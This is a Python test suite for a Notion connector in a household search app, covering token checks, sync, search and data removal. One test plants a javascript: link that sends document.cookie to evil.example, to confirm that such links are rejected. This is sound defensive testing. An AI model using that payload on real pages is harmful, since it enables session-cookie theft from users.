"""Notion end to end over loopback HTTP: a pasted internal integration secret (tried before it
is kept), shared pages' text searchable with their link, only edited pages read again, pages no
longer shared forgotten, nobody else finds them, and the index rebuilt from what Atom keeps."""

from __future__ import annotations

from litestar.testing import TestClient

from appliance.knowledge import check_index, reindex
from appliance.runtime import Runtime
from tests.connectors.records_helpers import found, record_items, sync
from tests.fakes.loopback import Reply
from tests.fakes.notion_api import SECRET, FakeNotion, block


def connect_notion(client: TestClient, secret: str = SECRET) -> dict:
    answer = client.post("/api/connections", json={"connector": "notion", "token": secret})
    assert answer.status_code == 201, answer.text
    return answer.json()["connection"]


def seed_pages(notion: FakeNotion, count: int) -> None:
    for n in range(count):
        notion.add_page(f"Item {n}", f"Page number {n} of the household wiki.")


def revoke_notion(notion: FakeNotion) -> None:
    notion.secrets.clear()


def test_a_pasted_secret_connects_and_shared_pages_are_searchable_with_their_link(
    ada: TestClient, notion: FakeNotion
) -> None:
    nested = block("Boiler", "toggle", children=[block("Bleed the radiators every October.")])
    page = notion.add_page("House manual", "Water stopcock is under the stairs.", blocks=[nested])
    notion.add_page("Packing list", blocks=[block("Passports", "to_do", checked=True)])
    connection = connect_notion(ada)
    assert connection["state"] == "connected" and connection["account"] == "Lovelace household"
    assert sync(ada, connection)["state"] == "connected"

    (hit,) = found(ada, "stopcock")
    assert hit["title"] == "House manual" and hit["type"] == "connected" and hit["source"] == "notion"
    assert found(ada, "radiators")[0]["id"] == hit["id"]  # a nested block's text is the page's too
    assert found(ada, "passports")[0]["title"] == "Packing list"
    (item,) = [i for i in record_items(ada, "notion") if i["local_id"] == hit["id"]]
    assert item["url"] == notion.pages[page].json()["url"]
    assert all(r.headers.get("notion-version") == "2022-06-28" for r in notion.requests)


def test_a_secret_notion_refuses_is_not_kept(ada: TestClient, notion: FakeNotion) -> None:
    refused = ada.post("/api/connections", json={"connector": "notion", "token": "secret_wrong"})
    assert refused.status_code == 400 and "did not accept" in refused.json()["detail"]
    assert ada.get("/api/connections").json() == []


def test_only_edited_pages_are_read_again_and_unshared_ones_are_forgotten(ada: TestClient, notion: FakeNotion) -> None:
    keep = notion.add_page("Recipes", "Grandma's lemon cake.")
    edit = notion.add_page("Garden", "Plant tulips in autumn.")
    gone = notion.add_page("Old flat", "The landlord's number.")
    connection = connect_notion(ada)
    sync(ada, connection)
    notion.edit(edit, "Plant daffodils in autumn.")
    notion.unshare(gone)
    before = len(notion.requests)
    sync(ada, connection)

    read = {r.path.split("/")[3] for r in notion.requests[before:] if r.path.startswith("/v1/blocks/")}
    assert read == {edit}
    assert found(ada, "daffodils")[0]["title"] == "Garden" and found(ada, "tulips") == []
    assert found(ada, "landlord") == [] and found(ada, "lemon")[0]["title"] == "Recipes"
    assert {i["remote_id"] for i in record_items(ada, "notion")} == {keep, edit}


def test_another_member_finds_none_of_it(ada: TestClient, bob: TestClient, notion: FakeNotion) -> None:
    notion.add_page("Ada's diary", "A secret about the analytical engine.")
    sync(ada, connect_notion(ada))
    assert found(ada, "analytical")
    assert found(bob, "analytical") == []


def test_the_index_is_rebuilt_from_what_atom_keeps_and_disconnecting_can_remove_it(
    ada: TestClient, notion: FakeNotion, runtime: Runtime
) -> None:
    notion.add_page("Wifi", "The guest network password is on the fridge.")
    connection = connect_notion(ada)
    sync(ada, connection)
    report = ada.blocking_portal.call(check_index, runtime.db, runtime.knowledge)
    assert (report.missing, report.stale, report.orphaned) == ([], [], [])
    ada.blocking_portal.call(reindex, runtime.db, runtime.knowledge)
    assert found(ada, "fridge")[0]["title"] == "Wifi"

    removed = ada.delete(f"/api/connections/{connection['id']}", params={"keep_data": "false"}).json()
    assert removed["removed"] == 1 and "still works" in removed["message"]
    assert found(ada, "fridge") == []
    report = ada.blocking_portal.call(check_index, runtime.db, runtime.knowledge)
    assert (report.missing, report.stale, report.orphaned) == ([], [], [])


def test_disconnecting_removes_the_pages_from_search_even_when_keeping_data(
    ada: TestClient, notion: FakeNotion
) -> None:
    notion.add_page("Bins", "Recycling goes out on Tuesdays.")
    connection = connect_notion(ada)
    sync(ada, connection)
    answer = ada.delete(f"/api/connections/{connection['id']}").json()  # keep_data defaults to keeping
    assert answer["kept"] == 0 and answer["removed"] == 1
    assert found(ada, "recycling") == []


def test_removing_a_member_erases_their_pages_from_atom_and_the_index(
    ada: TestClient, bob: TestClient, notion: FakeNotion, runtime: Runtime
) -> None:
    notion.add_page("Bob's plans", "Learn the cello.")
    sync(bob, connect_notion(bob))
    assert found(bob, "cello")
    bob_id = bob.get("/api/auth/me").json()["id"]
    assert ada.delete(f"/api/members/{bob_id}").status_code == 204
    rows = runtime.db.read_sync(lambda c: c.execute("SELECT count(*) FROM connector_records").fetchone()[0])
    assert rows == 0
    report = ada.blocking_portal.call(check_index, runtime.db, runtime.knowledge)
    assert (report.missing, report.stale, report.orphaned) == ([], [], [])


def test_a_link_that_is_not_a_web_address_is_not_kept(ada: TestClient, notion: FakeNotion) -> None:
    page = notion.add_page("Hostile", "A page whose link would run a script.")
    listing = notion.route_search_for_test()
    listing["results"][0]["url"] = "javascript:fetch('//evil.example/'+document.cookie)"
    connection = connect_notion(ada)
    notion.answer_next(Reply(200, listing))  # the sync's first request: the search
    sync(ada, connection)
    (item,) = record_items(ada, "notion")
    assert item["remote_id"] == page and item["url"] is None
    assert found(ada, "script")[0]["title"] == "Hostile" and not found(ada, "evil")
